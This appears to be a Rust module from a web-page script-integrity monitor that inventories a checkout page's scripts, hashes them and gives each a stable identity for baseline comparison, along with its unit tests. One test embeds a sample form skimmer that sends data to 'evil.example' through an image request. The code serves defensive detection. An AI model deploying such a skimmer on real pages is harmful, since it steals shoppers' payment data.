//! Inventory: turns a captured [`Snapshot`] into an [`Inventory`] — every script gets a stable
//! identity ([`identity`], the only place that computes an identity or a frame key) and its
//! hashes — so that `compare` can match it against the approved baseline. The same pass names
//! the scripts behind the scan's behaviour (card data sent, payment fields touched, fields
//! typed) by those identities ([`behaviour`]), so no later stage recomputes one.

pub mod behaviour;
pub mod budget;
pub mod identity;
pub mod normalize;
pub mod picture;

pub use identity::{anchor, host_of, script_identity, strip_volatile_query, SELF_HOST};

use crate::model::{Behaviour, Interaction, Inventory, RawScript, Script, Snapshot};
use base64::Engine as _;
use identity::{identity_with_origin, page_origin, skeleton};
use sha2::{Digest, Sha256, Sha384};
use std::collections::HashMap;

/// Builds the inventory of one page load: identities, hashes, scripts sorted by id.
pub fn inventory(snapshot: &Snapshot) -> Inventory {
    inventory_with(snapshot, &[])
}

/// [`inventory`], with the page's `ignore_query` parameters left out of script identities
/// (besides the cache-busters recognised by their value, see [`strip_volatile_query`]).
pub fn inventory_with(snapshot: &Snapshot, ignore_query: &[String]) -> Inventory {
    build(snapshot, ignore_query).0
}

/// One page load as the later stages need it: the inventory, and the scan's behaviour and
/// interaction with every script and frame named by that inventory's identities.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct PageInventory {
    pub inventory: Inventory,
    pub behaviour: Behaviour,
    pub interaction: Option<Interaction>,
}

/// Inventories a page load and names the scripts behind its behaviour (see [`behaviour`]).
pub fn inventory_page(snapshot: &Snapshot, ignore_query: &[String]) -> PageInventory {
    let (mut inventory, script_of_raw) = build(snapshot, ignore_query);
    inventory.cookies = behaviour::cookies(snapshot, &inventory, &script_of_raw);
    let origin = page_origin(snapshot);
    let behaviour = behaviour::resolve(snapshot, &inventory, &script_of_raw, &origin);
    let interaction = snapshot.interaction.as_ref().map(|i| behaviour::typed_fields(i, &origin));
    PageInventory { inventory, behaviour, interaction }
}

/// The inventory, and for each script of the snapshot (same index) the index of its entry in
/// `Inventory::scripts`: the one mapping from what the browser ran to what it is called.
fn build(snapshot: &Snapshot, ignore_query: &[String]) -> (Inventory, Vec<usize>) {
    let origin = page_origin(snapshot);
    // base identity → the distinct scripts (by content hash) that got it.
    let mut groups: HashMap<String, Vec<(&RawScript, String)>> = HashMap::new();
    // raw index → (base identity, content hash)
    let mut keys: Vec<(String, String)> = Vec::with_capacity(snapshot.scripts.len());
    for raw in &snapshot.scripts {
        let base = identity_with_origin(raw, &origin, ignore_query);
        let sha = sha256_hex(&raw.source);
        let used = groups.entry(base.clone()).or_default();
        if !used.iter().any(|(_, s)| *s == sha) {
            used.push((raw, sha.clone()));
        }
        keys.push((base, sha));
    }
    let mut scripts = Vec::new();
    let mut named: HashMap<(String, String), String> = HashMap::new();
    for (base, mut members) in groups {
        // Colliding scripts are numbered by their skeleton (stable under data edits), not by
        // document order, so randomly ordered tags keep their numbers from load to load.
        if members.len() > 1 {
            members.sort_by_cached_key(|(raw, sha)| (sha256_hex(&skeleton(&raw.source)), sha.clone()));
        }
        for (n, (raw, sha)) in members.into_iter().enumerate() {
            let id = if n == 0 { base.clone() } else { format!("{base}#{}", n + 1) };
            named.insert((base.clone(), sha.clone()), id.clone());
            scripts.push(script_of(raw, id, sha));
        }
    }
    scripts.sort_by(|a, b| a.id.cmp(&b.id));
    let position: HashMap<&str, usize> = scripts.iter().enumerate().map(|(i, s)| (s.id.as_str(), i)).collect();
    let script_of_raw = keys.iter().map(|k| position[named[k].as_str()]).collect();
    let inventory = Inventory {
        cookies: Default::default(),
        url: snapshot.url.clone(),
        final_url: snapshot.final_url.clone(),
        status: snapshot.status,
        headers: snapshot.headers.clone(),
        scripts,
        hosts: relative_hosts(snapshot),
        payment_fields: snapshot.payment_fields.clone(),
    };
    (inventory, script_of_raw)
}

/// The host a page's own requests go to is written `self` (like `self:` script URLs), so that
/// the same page on staging and production contacts the same hosts; other hosts stay as they
/// are. See [`SELF_HOST`].
fn relative_hosts(snapshot: &Snapshot) -> Vec<String> {
    let page = if snapshot.final_url.is_empty() { &snapshot.url } else { &snapshot.final_url };
    let own = host_of(page);
    let mut hosts: Vec<String> = snapshot
        .hosts
        .iter()
        .map(|h| if Some(h) == own.as_ref() { SELF_HOST.to_string() } else { h.clone() })
        .collect();
    hosts.sort();
    hosts.dedup();
    hosts
}

fn script_of(raw: &RawScript, id: String, sha: String) -> Script {
    Script {
        id,
        kind: raw.kind,
        url: raw.url.clone(),
        frame_url: raw.frame_url.clone(),
        sha256: sha,
        sri: sri_sha384(&raw.source),
        bytes: raw.source.len() as u64,
        initiator: raw.initiator.clone(),
        source: raw.source.clone(),
    }
}

/// Lower-case hex SHA-256 of the UTF-8 bytes of `s`.
/// Turns each cookie's value digest (capture's plain SHA-256, held in memory only) into the
/// keyed hash that is reported and stored: HMAC-SHA256 under `key` (the database's own key),
/// so that a value with little entropy (`consent=1`, a short id) cannot be recovered from a
/// report by hashing guesses, while the same value still hashes the same in every scan of
/// that database.
pub fn key_cookie_values(cookies: &mut [crate::model::Cookie], key: &[u8]) {
    use hmac::{Hmac, Mac};
    for c in cookies {
        if let Some(digest) = c.value_sha256.take() {
            if let Ok(mut mac) = Hmac::<Sha256>::new_from_slice(key) {
                mac.update(&digest);
                c.value_hash = hex::encode(mac.finalize().into_bytes());
            }
        }
    }
}

pub fn sha256_hex(s: &str) -> String {
    sha256_hex_bytes(s.as_bytes())
}

/// Lower-case hex SHA-256 of `bytes` (for files that need not be UTF-8).
pub fn sha256_hex_bytes(bytes: &[u8]) -> String {
    hex::encode(Sha256::digest(bytes))
}

/// Subresource-integrity value for `s`: `sha384-` + standard base64 of its SHA-384, exactly
/// what a browser expects in an `integrity=` attribute.
pub fn sri_sha384(s: &str) -> String {
    let digest = Sha384::digest(s.as_bytes());
    format!("sha384-{}", base64::engine::general_purpose::STANDARD.encode(digest))
}

#[cfg(test)]
mod tests {
    use super::identity::*;
    use super::*;
    use crate::model::PaymentField;
    use crate::model::ScriptKind;

    fn raw(kind: ScriptKind, url: Option<&str>, source: &str) -> RawScript {
        RawScript {
            kind,
            url: url.map(str::to_string),
            frame_url: "https://shop.example/checkout".to_string(),
            main_frame: true,
            source: source.to_string(),
            initiator: None,
            context: None,
            position: None,
        }
    }

    fn in_frame(mut r: RawScript, frame: &str) -> RawScript {
        r.main_frame = false;
        r.frame_url = frame.to_string();
        r
    }

    fn snapshot(scripts: Vec<RawScript>) -> Snapshot {
        Snapshot {
            url: "https://shop.example/checkout".to_string(),
            final_url: "https://shop.example/checkout?step=2".to_string(),
            status: 200,
            scripts,
            ..Snapshot::default()
        }
    }

    const PAGE: &str = "https://shop.example/checkout";
    // Skeleton longer than 64 characters, so appended code falls outside the anchor.
    const LONG: &str = "window.dataLayer = window.dataLayer || []; function gtag() { dataLayer.push(arguments); } gtag('js', new Date(2024, 1, 1)); gtag('config', 'G-ABC123');";

    #[test]
    fn known_hash_vectors() {
        assert_eq!(sha256_hex(""), "e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855");
        assert_eq!(sha256_hex("abc"), "ba7816bf8f01cfea414140de5dae2223b00361a396177a9cb410ff61f20015ad");
        assert_eq!(
            sri_sha384("alert('Hello, world.');"),
            "sha384-H8BRh8j48O9oYatfu5AZzq6A9RINhZO5H16dQZngK7T62em8MUt1FLm52t+eX6xO"
        );
    }

    #[test]
    fn host_of_keeps_only_non_default_ports() {
        assert_eq!(host_of("https://shop.example/x").as_deref(), Some("shop.example"));
        assert_eq!(host_of("https://shop.example:443/x").as_deref(), Some("shop.example"));
        assert_eq!(host_of("http://localhost:8080/x").as_deref(), Some("localhost:8080"));
        assert_eq!(host_of("https://CDN.Example:8443").as_deref(), Some("cdn.example:8443"));
        assert_eq!(host_of("data:text/javascript,1"), None);
        assert_eq!(host_of("not a url"), None);
    }

    #[test]
    fn same_origin_is_self_and_third_party_is_absolute() {
        let own = raw(ScriptKind::External, Some("https://shop.example/static/app.js?v=3#x"), "a()");
        assert_eq!(script_identity(&own, PAGE), "self:/static/app.js?v=3");
        let other = raw(ScriptKind::External, Some("https://cdn.example/lib.js#frag"), "b()");
        assert_eq!(script_identity(&other, PAGE), "https://cdn.example/lib.js");
        // Another port is another origin.
        let port = raw(ScriptKind::External, Some("https://shop.example:8443/a.js"), "c()");
        assert_eq!(script_identity(&port, PAGE), "https://shop.example:8443/a.js");
        // The same script on staging gets the same identity.
        assert_eq!(
            script_identity(
                &raw(ScriptKind::External, Some("https://staging.shop.example/static/app.js?v=3"), ""),
                "https://staging.shop.example/checkout"
            ),
            "self:/static/app.js?v=3"
        );
    }

    #[test]
    fn iframe_scripts_are_prefixed_with_the_frame_key() {
        let ext = in_frame(
            raw(ScriptKind::External, Some("https://pay.example/sdk.js"), "x()"),
            "https://pay.example/frame?session=1#a",
        );
        assert_eq!(script_identity(&ext, PAGE), "https://pay.example/frame|https://pay.example/sdk.js");
        let inl = in_frame(raw(ScriptKind::Inline, None, "x()"), "https://shop.example/embed?token=9");
        assert_eq!(script_identity(&inl, PAGE), format!("self:/embed|inline|{}", anchor("x()")));
        let main = raw(ScriptKind::Inline, None, "x()");
        assert_eq!(script_identity(&main, PAGE), format!("main|inline|{}", anchor("x()")));
    }

    #[test]
    fn inline_handler_eval_data_blob_identities() {
        let mut inline = raw(ScriptKind::Inline, None, "var a = 1;");
        inline.context = Some("config".into());
        assert_eq!(script_identity(&inline, PAGE), "main|inline|#config");

        let mut handler = raw(ScriptKind::Handler, None, "this.src='x.png'");
        handler.context = Some("img#logo@onerror".into());
        assert_eq!(script_identity(&handler, PAGE), "main|handler|img#logo@onerror");
        handler.context = None;
        assert_eq!(script_identity(&handler, PAGE), format!("main|handler|{}", anchor("this.src='x.png'")));

        let mut eval = raw(ScriptKind::Eval, None, "go()");
        assert_eq!(script_identity(&eval, PAGE), format!("main|eval|unknown|{}", anchor("go()")));
        eval.initiator = Some("https://shop.example/static/app.js#L1".into());
        assert_eq!(script_identity(&eval, PAGE), format!("main|eval|self:/static/app.js|{}", anchor("go()")));
        eval.initiator = Some("inline:https://shop.example/checkout?x=1".into());
        assert_eq!(script_identity(&eval, PAGE), format!("main|eval|inline:self:/checkout|{}", anchor("go()")));

        let data_url = "data:text/javascript,alert(1)";
        let data = raw(ScriptKind::Data, Some(data_url), "alert(1)");
        assert_eq!(script_identity(&data, PAGE), format!("main|data|{}", &sha256_hex(data_url)[..16]));

        let blob = raw(ScriptKind::Data, Some("blob:https://shop.example/0b7c-11"), "steal()");
        assert_eq!(script_identity(&blob, PAGE), format!("main|blob|{}", anchor("steal()")));
    }

    #[test]
    fn anchor_ignores_literals_whitespace_and_comments() {
        let a = anchor("var key = 'pk_live_1';\nvar n = 42; // note\nsend(key, n);");
        let b = anchor("var key=\"pk_live_2\";/* changed */var n=7.5;send(key,n);");
        assert_eq!(a, b);
        assert_eq!(a.len(), 10);
        // Identifiers with digits are not numbers.
        assert_ne!(anchor("a1();"), anchor("a2();"));
        assert_eq!(skeleton("x = `t${1}` + 0x1F + .5; y = a1"), "x=S+0+0;y=a1");
    }

    #[test]
    fn anchor_survives_appended_statement_but_not_a_new_first_statement() {
        let appended = format!("{LONG}\ndocument.forms[0].addEventListener('submit', function () {{ new Image().src = 'https://evil.example/c?d=' + btoa(x); }});");
        assert_eq!(anchor(LONG), anchor(&appended));
        let prepended = format!("var s=document.createElement('script');{LONG}");
        assert_ne!(anchor(LONG), anchor(&prepended));
        let edited = LONG.replacen("window.dataLayer = window.dataLayer", "window.dl = window.dl", 1);
        assert_ne!(anchor(LONG), anchor(&edited));
    }

    #[test]
    fn inventory_hashes_sorts_and_copies_page_data() {
        let mut snap = snapshot(vec![
            raw(ScriptKind::External, Some("https://shop.example/z.js"), "z()"),
            raw(ScriptKind::External, Some("https://cdn.example/a.js"), "abc"),
        ]);
        snap.hosts = vec!["cdn.example".into(), "shop.example".into()];
        snap.headers.insert("x-frame-options".into(), "DENY".into());
        snap.payment_fields.push(PaymentField {
            frame_url: PAGE.into(),
            selector: "#cc".into(),
            reason: "autocomplete=cc-number".into(),
        });
        let inv = inventory(&snap);
        let ids: Vec<&str> = inv.scripts.iter().map(|s| s.id.as_str()).collect();
        assert_eq!(ids, ["https://cdn.example/a.js", "self:/z.js"]);
        let a = &inv.scripts[0];
        assert_eq!(a.sha256, sha256_hex("abc"));
        assert_eq!(a.sri, sri_sha384("abc"));
        assert_eq!(a.bytes, 3);
        assert_eq!(a.source, "abc");
        // The page's own host is written `self`, third-party hosts stay absolute.
        assert_eq!(inv.hosts, ["cdn.example", SELF_HOST]);
        assert_eq!(inv.headers, snap.headers);
        assert_eq!(inv.payment_fields, snap.payment_fields);
        assert_eq!(inv.status, 200);
    }

    #[test]
    fn collisions_are_numbered_independently_of_document_order_and_duplicates_collapse() {
        let first = format!("{LONG} one();");
        let second = format!("{LONG} two('x');");
        let ids_of = |order: Vec<&String>| {
            let mut scripts: Vec<RawScript> = order.into_iter().map(|s| raw(ScriptKind::Inline, None, s)).collect();
            scripts.push(raw(ScriptKind::External, Some("https://cdn.example/a.js"), "same"));
            scripts.push(raw(ScriptKind::External, Some("https://cdn.example/a.js"), "same"));
            inventory(&snapshot(scripts)).scripts.into_iter().map(|s| (s.id, s.source)).collect::<Vec<_>>()
        };
        let a = ids_of(vec![&first, &second, &first]);
        let b = ids_of(vec![&second, &first]);
        assert_eq!(a, b);
        let base = format!("main|inline|{}", anchor(LONG));
        let ids: Vec<&str> = a.iter().map(|(id, _)| id.as_str()).collect();
        assert_eq!(ids, ["https://cdn.example/a.js", base.as_str(), format!("{base}#2").as_str()]);
        // Data edits do not renumber: the order comes from the skeleton.
        let c = ids_of(vec![&second.replace("'x'", "'y'"), &first]);
        assert_eq!(
            c.iter().map(|(id, s)| (id.as_str(), s.contains("two"))).collect::<Vec<_>>(),
            a.iter().map(|(id, s)| (id.as_str(), s.contains("two"))).collect::<Vec<_>>()
        );
    }

    #[test]
    fn final_url_falls_back_to_requested_url() {
        let mut snap = snapshot(vec![raw(ScriptKind::External, Some("https://shop.example/a.js"), "")]);
        snap.final_url.clear();
        assert_eq!(inventory(&snap).scripts[0].id, "self:/a.js");
    }

    #[test]
    fn cache_busting_query_parameters_are_not_part_of_the_identity() {
        let ids = |url: &str, ignore: &[String]| {
            let snap = snapshot(vec![raw(ScriptKind::External, Some(url), "x()")]);
            inventory_with(&snap, ignore).scripts[0].id.clone()
        };
        assert_eq!(ids("https://shop.example/app.js?v=1718000000123", &[]), "self:/app.js");
        assert_eq!(ids("https://shop.example/app.js?_=1718000000&lang=en", &[]), "self:/app.js?lang=en");
        assert_eq!(ids("https://cdn.example/a.js?build=8f3a9b2c", &[]), "https://cdn.example/a.js");
        assert_eq!(ids("https://cdn.example/a.js?t=Zk3mQ9xT2pLw8vBn", &[]), "https://cdn.example/a.js");
        // Short, stable values stay unless configured.
        assert_eq!(ids("https://shop.example/app.js?v=3", &[]), "self:/app.js?v=3");
        assert_eq!(
            ids("https://shop.example/app.js?v=3&id=TW-HP4821", &["v".to_string()]),
            "self:/app.js?id=TW-HP4821"
        );
        assert_eq!(ids("https://shop.example/app.js?v=3&id=TW-HP4821", &["*".to_string()]), "self:/app.js");
        // The URL itself is kept as loaded.
        let snap =
            snapshot(vec![raw(ScriptKind::External, Some("https://shop.example/app.js?v=1718000000123"), "x()")]);
        assert_eq!(inventory(&snap).scripts[0].url.as_deref(), Some("https://shop.example/app.js?v=1718000000123"));
    }

    #[test]
    fn json_like_data_collapses_in_the_skeleton() {
        assert_eq!(
            skeleton("window.cart = {\"id\":\"c1\",\"items\":[{\"sku\":\"A\",\"qty\":1}]}; go();"),
            "window.cart=D;go();"
        );
        assert_eq!(anchor("window.cart = {\"items\":[{\"sku\":\"A\",\"qty\":1}]}; render(window.cart, document.getElementById('total'));"),
                   anchor("window.cart = {\"items\":[{\"sku\":\"A\",\"qty\":1},{\"sku\":\"B\",\"qty\":-2,\"gift\":true}]}; render(window.cart, document.getElementById('total'));"));
        // Code inside braces is not data.
        assert_eq!(skeleton("if(a){go(1)}var o={f:g};"), "if(a){go(0)}varo={f:g};");
    }
}
